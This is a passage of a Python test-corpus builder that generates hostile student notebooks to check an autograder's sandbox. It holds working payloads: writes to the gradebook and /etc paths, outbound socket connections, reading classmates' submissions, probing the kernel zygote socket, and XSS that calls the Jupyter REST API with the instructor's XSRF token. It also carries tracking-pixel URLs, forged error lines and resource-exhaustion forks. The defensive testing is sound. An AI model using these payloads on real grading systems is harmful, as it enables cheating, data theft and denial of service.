        shutil.copy(sources.solutions / f"{NB2}.ipynb", out / f"{NB2}.ipynb")
    return build


for _name, _taken, _count, _prefix in (("sabotages_next_kernel", "the sockets of the kernel", 5, "kernel-"),
                                       ("sabotages_next_checker", "the socket of the checker", 1, "checker")):
    case(_name, f"notebooks 01 and 02 right; 01's first answer takes {_taken} that waits for notebook 02")(
        _sabotages_next(_count, _prefix))


# Attempts on what the student must not touch; every attempt is caught so that the answer still runs.
# The course root is found from the kernel's working folder (autograded/<student>/<assignment>).
WRITE_OUTSIDE = '''import os, pathlib
_root = pathlib.Path.cwd().parents[2]
_attempts = {}
for _target in [_root / "gradebook.db", _root / "solutions" / "transfer_learning" / "01_mask_and_positional_encoding.ipynb",
                _root / "submitted" / "write_outside" / "transfer_learning" / "01_mask_and_positional_encoding.ipynb",
                _root / "pwned_by_student", pathlib.Path("/root/pwned_by_student"),
                pathlib.Path(os.path.expanduser("~")) / "pwned_by_student", pathlib.Path("/tmp/pwned_by_student")]:
    try:
        with open(_target, "ab") as _handle:
            _handle.write(b"pwned")
        _attempts[str(_target)] = "written"
    except OSError as _error:
        _attempts[str(_target)] = type(_error).__name__
try:
    _attempts["gradebook read"] = len(open(_root / "gradebook.db", "rb").read())
except OSError as _error:
    _attempts["gradebook read"] = type(_error).__name__
try:
    _attempts["solutions listed"] = os.listdir(_root / "solutions")
except OSError as _error:
    _attempts["solutions listed"] = type(_error).__name__
print(_attempts)
'''
case("write_outside", "the mask answer (right) first tries to write the gradebook, solutions, its submission, ~")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", WRITE_OUTSIDE)))

# Paths the write_outside case aims at outside the course copy; the test checks none of them appears.
OUTSIDE_TARGETS = [Path("/root/pwned_by_student"), Path("/tmp/pwned_by_student")]

# The network case connects to a service of the instructor's on 127.0.0.1 (the corpus test listens on this
# port and checks that nothing arrived) and to an address outside; the kernel must reach neither.
INSTRUCTOR_PORT = 47613
REACH_OUT = f'''import socket
for _address in [("127.0.0.1", {INSTRUCTOR_PORT}), ("1.1.1.1", 443)]:
    try:
        with socket.create_connection(_address, timeout=3) as _connection:
            _connection.sendall(b"pwned")
        print(_address, "reached")
    except OSError as _error:
        print(_address, type(_error).__name__)
'''
case("network", "the mask answer (right) first connects to a service on 127.0.0.1 and to the internet")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", REACH_OUT)))

# On a hub, nbgrader's exchange holds every student's submission and released feedback on its way
# (hub/jupyterhub_config.py sets TRANSLAB_EXCHANGE; the local flow keeps it in the course's exchange/).  The
# corpus test puts a classmate's submission holding EXCHANGE_SECRET there; the kernel must read none of it.
EXCHANGE_SECRET = "a classmate's answer that is not yours to read"
READ_EXCHANGE = '''import os, pathlib
_read = {}
for _exchange in sorted({os.environ.get("TRANSLAB_EXCHANGE") or "", str(pathlib.Path.cwd().parents[2] / "exchange"),
                         "/srv/nbgrader/exchange"} - {""}):
    for _folder, _, _files in os.walk(_exchange):
        for _name in _files:
            try:
                _read[os.path.join(_folder, _name)] = open(os.path.join(_folder, _name), errors="replace").read()[:200]
            except OSError as _error:
                _read[os.path.join(_folder, _name)] = type(_error).__name__
print("read from the exchange:", _read)
'''
case("read_exchange", "the mask answer (right) first reads every file of nbgrader's exchange (classmates' work)")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", READ_EXCHANGE)))

# Classmates graded at the same time (JOBS=2, a cluster worker's threads) get their autograded/ folders after this
# kernel started, so no list made at its launch could name them.  For a few seconds the answer reads every file
# under autograded/ outside its own folder: their answers, and the hidden tests their notebooks are written with.
READ_CLASSMATES = '''import os, pathlib, time
_autograded, _own = pathlib.Path.cwd().parents[1], pathlib.Path.cwd().parent
_read, _until = {}, time.monotonic() + 4
while time.monotonic() < _until:
    for _folder, _, _files in os.walk(_autograded):
        if pathlib.Path(_folder) == _own or _own in pathlib.Path(_folder).parents:
            continue
        for _name in _files:
            try:
                _read[os.path.join(_folder, _name)] = open(os.path.join(_folder, _name), errors="replace").read()[:200]
            except OSError as _error:
                _read[os.path.join(_folder, _name)] = type(_error).__name__
    time.sleep(0.2)
print("read from classmates:", _read)
'''
case("read_classmates", "the mask answer (right) first spends 4 s reading every classmate's autograded/ folder it finds, "
     "those graded beside it included")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", READ_CLASSMATES)))

# Kernels are forked by the batch's zygote (grader.isolation.zygote), which forks a kernel in whatever folder a launcher names:
# reaching its socket would give a kernel in a classmate's folder.  The answer looks for it where the batch keeps
# its scratch folders and through every process's open descriptors it can list, and asks each socket it finds.
REACH_ZYGOTE = '''import glob, os, socket, tempfile
_found = set(glob.glob("/tmp/translab-autograde-*/zygote/socket") + glob.glob("/var/tmp/translab-autograde-*/zygote/socket")
             + glob.glob(os.path.join(tempfile.gettempdir(), "translab-autograde-*", "zygote", "socket")))
for _fd_folder in glob.glob("/proc/[0-9]*/fd"):
    try:
        _found |= {os.path.join(_fd_folder, _fd) for _fd in os.listdir(_fd_folder)
                   if "zygote" in os.readlink(os.path.join(_fd_folder, _fd))}
    except OSError:
        pass
_reached = []
for _path in sorted(_found):
    try:
        with socket.socket(socket.AF_UNIX) as _connection:
            _connection.settimeout(3)
            _connection.connect(_path)
            _reached.append(_path)
    except OSError:
        pass
print("zygote reached:", _reached)
'''
case("reach_zygote", "the mask answer (right) first looks for the batch's kernel zygote and connects to its socket")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", REACH_ZYGOTE)))

# The attack measured on the formgrader and the feedback: student HTML, rendered live, runs in the instructor's
# browser with the instructor's Jupyter session.  Every vector sets a marker and PUTs a file named after itself
# into the course root through the Jupyter REST API (the measured script got HTTP 201); sanitize_student_content.py must
# leave none of them live (grader/tests/nbgrader_plugins/test_browser_sanitize.py renders this case in Chromium).
INJECTED_TEXT = "Answer of script_injection"  # visible text of the written answer, and of the HTML output
INJECTED_FILE = "pwned_by_html_{vector}.txt"


def injected_js(vector: str) -> str:
    """What a vector runs: the markers, then the REST API call (single quotes only: it goes into attributes)."""
    return ("window.__pwned=1;document.title='pwned';"
            f"fetch('/api/contents/{INJECTED_FILE.format(vector=vector)}',{{method:'PUT',credentials:'same-origin',"
            "headers:{'Content-Type':'application/json','X-XSRFToken':decodeURIComponent("
            "(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'')},"
            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})});")


def injected_svg(vector: str) -> str:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="{injected_js(vector)}">'
            f'<script>{injected_js(vector + "_script")}</script></svg>')


# Issue 35: markup that makes the instructor's browser fetch a URL the student chose, with no script at all: a tracking
# pixel tells the student when and from where the grading happened; a same-origin path is a GET with the instructor's
# cookies.  Each URL carries CHOSEN_URL_MARK, which no request of a rendered page may.
CHOSEN_URL_MARK = "translab-student-chosen"


def chosen_urls(where: str) -> str:
    """One element per way HTML fetches a URL by itself, each URL named after the vector."""
    def url(vector: str, absolute: bool = True) -> str:
        return (f"https://tracker.example/{CHOSEN_URL_MARK}-{where}-{vector}.png" if absolute
                else f"{CHOSEN_URL_MARK}-{where}-{vector}.png")
    return (f'<img src="{url("img_src")}" alt="pixel">'
            f'<img src="{url("img_relative", absolute=False)}" alt="pixel">'
            f'<img src="data:image/jpeg;base64,/9j/" srcset="{url("img_srcset")} 1x" alt="pixel">'
            f'<picture><source srcset="{url("source_srcset")}"><img alt="pixel"></picture>'
            f'<div style="background-image: url({url("style_url")})">styled</div>'
            f'<style>@import url("{url("style_import")}"); p {{ background: url({url("style_rule")}) }}</style>'
            f'<link rel="stylesheet" href="{url("link_stylesheet")}">'
            f'<link rel="prefetch" href="{url("link_prefetch")}">'
            f'<base href="/{CHOSEN_URL_MARK}-{where}-base/">'  # same origin: the other vectors' fetches still land'
            f'<meta http-equiv="refresh" content="600;url={url("meta_refresh")}">'
            f'<video poster="{url("video_poster")}"></video>'
            f'<input type="image" src="{url("input_image")}">'
            f'<object data="{url("object_data")}"></object>'
            f'<iframe src="{url("iframe_src")}"></iframe>'
            f'<table background="{url("table_background")}"><tr><td>cell</td></tr></table>')


INJECTED_ANSWER = (
    f"**(a)** {INJECTED_TEXT}: the mask holds `0` where `j <= i` and `-inf` where `j > i`, so that after the "
    "softmax a position gives the tokens after it a weight of exactly 0 and cannot read what it must predict. "
    "**(b)** The positional encoding is a fixed table of sinusoids added to the embeddings, not trained; without "
    "it attention cannot tell word order.\n\n"
    f"<script>{injected_js('md_script')}</script>\n\n"
    f'<img src="x" onerror="{injected_js("md_img_onerror")}">\n\n'
    f"{injected_svg('md_svg')}\n\n"
    f'<a href="javascript:{injected_js("md_javascript_link")}">my sources</a>\n\n'
    f"{chosen_urls('md')}\n")
INJECTED_HTML_OUTPUT = (
    f"<p><b>{INJECTED_TEXT}</b>, as a table:</p><table><tr><th>j &lt;= i</th><th>j &gt; i</th></tr>"
    "<tr><td>0</td><td>-inf</td></tr></table>"
    f"<script>{injected_js('out_script')}</script>"
    f'<img src="x" onerror="{injected_js("out_img_onerror")}">'
    f'<a href="javascript:{injected_js("out_javascript_link")}">my sources</a>'
    f"{chosen_urls('out')}")
# Issue 81: nbconvert's classic template writes an image's width= and height= unquoted, so metadata the kernel chose
# becomes attributes of its own (a valid PNG loads: onload; a broken JPEG fails: onerror); and the execution count is
# the kernel's to choose (a message of its own on iopub), printed beside each cell and output (a number that could
# carry what the kernel read).
PNG_1X1 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
INJECTED_IMAGE_METADATA = {
    "image/png": ({"image/png": PNG_1X1, "text/plain": "<Figure>"},
                  {"image/png": {"width": "1 onload=" + injected_js("out_png_width"), "alt": 7}}),
    "image/jpeg": ({"image/jpeg": "/9j/", "text/plain": "<Figure>"},
                   {"image/jpeg": {"height": "1 onerror=" + injected_js("out_jpeg_height")}}),
}
CHOSEN_EXECUTION_COUNT = 730_000_001
INJECTED_OUTPUTS = ("from IPython.display import HTML, SVG, Javascript, display\n"
                    f"display(HTML({INJECTED_HTML_OUTPUT!r}))\n"
                    f"display(SVG({injected_svg('out_svg')!r}))\n"
                    f"display(Javascript({injected_js('out_javascript')!r}))\n"
                    + "".join(f"display({data!r}, metadata={metadata!r}, raw=True)\n"
                              for data, metadata in INJECTED_IMAGE_METADATA.values())
                    + "_kernel = get_ipython().kernel\n"
                    + "_kernel.session.send(_kernel.iopub_socket, 'execute_result', {'execution_count': "
                    + f"{CHOSEN_EXECUTION_COUNT}, 'data': {{'text/plain': 'a result'}}, 'metadata': {{}}}}, "
                    + "parent=_kernel.get_parent());\n")
case("script_injection", "notebook 01 right; its written answer and the mask answer's outputs carry live HTML and JS")(
    _nb1(lambda nb: _replace(_prepend(nb, "mask_answer", INJECTED_OUTPUTS), "written_mask_pe", INJECTED_ANSWER)))


# Issue 30, attack 7: a formula is a program for latex2mathml, which expands \newcommand into as many copies as it is
# called.  This 82 KB written answer once became a 58.8 MB feedback page built in 126 s; grader.course.mathml bounds it.
AMPLIFYING_FORMULA = r"$\newcommand{\a}{\frac{x^2}{y_1+\sqrt{z}}}" + r"\a" * 100 + "$"
AMPLIFYING_ANSWER = "**(a)** The mask blocks the future. **(b)** The encoding adds order.\n\n" + \
    "\n\n".join([AMPLIFYING_FORMULA] * 340)
case("amplifying_formulas", "notebook 01 right; its written answer is 82 KB of formulas that expand a macro 100 times")(
    _nb1(lambda nb: _replace(nb, "written_mask_pe", AMPLIFYING_ANSWER)))
# Issue 48: a 1 MB markdown table in a written answer once took 217 s to grade (an honest classmate: 14 s) and held up
# the class's feedback: every markdown cell was rendered and cleaned with no size cap.  Past
# sanitize_student_content.MAX_RENDERED characters a cell shows as escaped text, never rendered.
HUGE_TABLE_ROW = "| " + " | ".join(f"cell {i}" for i in range(10)) + " |\n"
HUGE_ANSWER = ("**(a)** The mask blocks the future. **(b)** The encoding adds order.\n\n"
               + "| " + " | ".join(f"h{i}" for i in range(10)) + " |\n|" + "---|" * 10 + "\n"
               + HUGE_TABLE_ROW * (2 ** 20 // len(HUGE_TABLE_ROW)))
case("huge_written_answer", "notebook 01 right; its written answer holds a 1 MB markdown table")(
    _nb1(lambda nb: _replace(nb, "written_mask_pe", HUGE_ANSWER)))


# ----------------------------------------------------------------- issue 11: what the grader held against too little

# The lines the batch once scanned nbgrader's log for, to tell a broken machine: printed by a student, they
# cancelled every classmate not yet graded.  Now the verdict comes from exit codes and the launcher's records.
FAKE_FAILURE = '''import os, sys
for _line in ("[grader.isolation.sandbox] cannot start the grading kernel", "NoSuchKernel", "database is locked",
              "Exception while loading config", "[AutogradeApp | ERROR] sqlalchemy.exc.OperationalError",
              "Kernel died before replying to kernel_info", "error accessing the nbgrader database"):
    os.write(2, (_line + "\\n").encode())
    os.write(1, (_line + "\\n").encode())
    print(_line, file=sys.stderr)
'''
case("fake_infrastructure_error", "the mask answer (right) first prints the machine-failure lines nbgrader logs")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", FAKE_FAILURE)))


@case("marker_in_invalid_json", "notebook 01 right; notebook 02 not JSON, its text made of machine-failure lines")
def _marker_in_invalid_json(sources: Sources, out: Path) -> None:
    _nb1()(sources, out)
    (out / f"{NB2}.ipynb").write_text("NoSuchKernel database is locked Exception while loading config [ERROR] "
                                      "[grader.isolation.sandbox] sqlalchemy.exc {", encoding="utf-8")


@case("symlinks", "notebook 01 a link to the instructor's solution, 02 to a non-JSON file; links to the "
                  "gradebook and /etc/shadow, and a FIFO")
def _symlinks(sources: Sources, out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    course = sources.solutions.parents[1]
    os.symlink(sources.solutions / f"{NB1}.ipynb", out / f"{NB1}.ipynb")
    os.symlink("/etc/hostname", out / f"{NB2}.ipynb")
    os.symlink(course / "gradebook.db", out / "gradebook.db")
    os.symlink("/etc/shadow", out / "shadow")
    os.mkfifo(out / "pipe")


LEAVE_BEHIND = '''import ctypes, pathlib
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_segment = _libc.shmget(0x7E57AB1E, 512 * 2 ** 20, 0o1000 | 0o666)  # SysV shared memory, 512 MB
if _segment >= 0:
    _address = _libc.shmat(_segment, None, 0)
    if _address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(_address, 1, 64 * 2 ** 20)  # pinned for real: pages touched
_left = {"shm": _segment}
for _target in ["/run/lock/translab-leftover", "/var/lock/translab-leftover", "/var/tmp/translab-leftover",
                "/dev/shm/translab-leftover"]:
    try:
        pathlib.Path(_target).write_text("x")
        _left[_target] = "written"
    except OSError as _error:
        _left[_target] = type(_error).__name__
for _folder in [pathlib.Path.home(), pathlib.Path("/tmp")]:
    try:
        with open(_folder / "fill.bin", "wb") as _handle:
            for _ in range(2048):  # 2 GB
                _handle.write(b"x" * 2 ** 20)
        _left[str(_folder)] = "2 GB written"
    except OSError as _error:
        _left[str(_folder)] = type(_error).__name__
print(_left)
'''
LEFTOVER_KEY = 0x7E57AB1E
LEFTOVER_FILES = [Path(p) for p in ("/run/lock/translab-leftover", "/var/lock/translab-leftover",
                                    "/var/tmp/translab-leftover", "/dev/shm/translab-leftover")]
case("leave_behind", "the mask answer (right) first pins 512 MB of SysV shared memory, writes lock files and "
                     "tries to fill HOME and /tmp with 2 GB each")(
    _nb1(lambda nb: _prepend(nb, "mask_answer", LEAVE_BEHIND)))

SLEEP = "import time\ntime.sleep(9)\n"  # under the corpus test's 12 s cell timeout; three are over its notebook budget
case("slow_cells", "four cells of 9 s each before the encoding answer: under the cell timeout, over the "
                   "notebook's budget", spends_budget=True)(
    _nb1(lambda nb: _insert_before(nb, "pe_answer", [SLEEP] * 4)))


def _with_many_cells(notebook):
    # at about 12 ms a cell (6 on a fast machine), 8,000 outlast any notebook budget the tests set
    notebook.cells.extend(nbformat.v4.new_code_cell("pass") for _ in range(8_000))
    return notebook


case("many_cells", "notebook 01 right, then 8,000 cells of `pass`", spends_budget=True)(_nb1(_with_many_cells))


@case("slow_everywhere", "notebooks 01, 02 and 03 each open with four cells of 9 s: over the student's budget",
      spends_budget=True)
def _slow_everywhere(sources: Sources, out: Path) -> None:
    for stem in (NB1, NB2, NB3):
        notebook = sources.notebook(stem)
        notebook.cells[1:1] = [nbformat.v4.new_code_cell(SLEEP) for _ in range(4)]
        _write(notebook, out, f"{stem}.ipynb")


case("dies_after_tests", "notebook 01 right, but the kernel exits (os._exit) in the encoding answer")(
    _nb1(lambda nb: _prepend(nb, "pe_answer", "import os\nos._exit(1)\n")))
case("ignores_interrupt", "notebook 01 right, but the encoding answer ignores SIGINT and loops forever")(
    _nb1(lambda nb: _prepend(nb, "pe_answer", (
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"))))


# Issue 30, attack 5: many busy processes, each in a session of its own (out of the kernel's process group) and each
# under every per-process limit.  They sleep first, so that the kernel forks them all before they compete with it.
CPU_HOGS = 300
# The kernel then waits past the cell timeout, ignoring the interrupt: its processes run as long as nbgrader lets
# it live, on any machine (and its cell ends unanswered, which is flagged, as in ignores_interrupt).
CPU_HOG = (f"import os, signal, time\nfor _ in range({CPU_HOGS}):\n    if os.fork() == 0:\n        os.setsid()\n"
           "        time.sleep(3)\n        while True:\n            pass\n"
           "signal.signal(signal.SIGINT, signal.SIG_IGN)\ntime.sleep(600)\n")
# Cases that are fair to the classmates graded beside them only with a cgroup per student (grader.isolation.cgroups): a
# machine without them grades the corpus without these, and says so.
NEEDS_CGROUPS = {"cpu_hog"}


def _with_cell(source: str):
    def transform(notebook):
        notebook.cells.append(nbformat.v4.new_code_cell(source))
        return notebook
    return transform


case("cpu_hog", f"notebook 01 right, then a cell that starts {CPU_HOGS} busy processes in sessions of their own "
                "and waits, ignoring the interrupt", spends_budget=True)(_nb1(_with_cell(CPU_HOG)))


# Issue 30, attack 6: the (right) mask answer records every size it is asked for, hidden tests' included, and a
# cell of the student's own at the end prints them; the printed line starts with SEEN_MARKER.
SEEN_MARKER = "sizes seen="
RECORD_SIZES = ("_answer = generate_square_subsequent_mask\nSEEN_SIZES = []\n\n"
                "def generate_square_subsequent_mask(sz):\n    SEEN_SIZES.append(int(sz))\n    return _answer(sz)\n")
case("prints_hidden_inputs", "the mask answer (right) records the sizes it is called with; a last cell prints them")(
    _nb1(lambda nb: _with_cell(f"print({SEEN_MARKER[:5]!r} + {SEEN_MARKER[5:]!r} + repr(SEEN_SIZES))")(
        _append_to(nb, "mask_answer", RECORD_SIZES))))


def build_case(name: str, folder: Path, root: Path = REPO_ROOT) -> None:
    """Write case ``name`` as one student's folder (``folder`` is submitted/<student>/transfer_learning)."""
    if folder.exists():
        shutil.rmtree(folder)
    CASES[name][1](Sources(root / "solutions" / ASSIGNMENT, root / "notebooks" / ASSIGNMENT), folder)


def build(out: Path, root: Path = REPO_ROOT, names: list[str] | None = None) -> list[str]:
    """Write each case (all by default) to ``out/<case>/transfer_learning/``; returns the case names."""
    names = list(CASES) if names is None else names
    for name in names:
        build_case(name, out / name / ASSIGNMENT, root)
    return names


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m grader.testing.corpus", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("out", type=Path, help="where to write <case>/transfer_learning/ (e.g. submitted/)")
    parser.add_argument("--root", type=Path, default=REPO_ROOT, help="the course whose notebooks to use")
    parser.add_argument("--case", action="append", help="only this case (repeatable)")
    args = parser.parse_args(argv)
    for name in build(args.out, args.root.resolve(), args.case):
        print(f"{name:20s} {CASES[name][0]}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
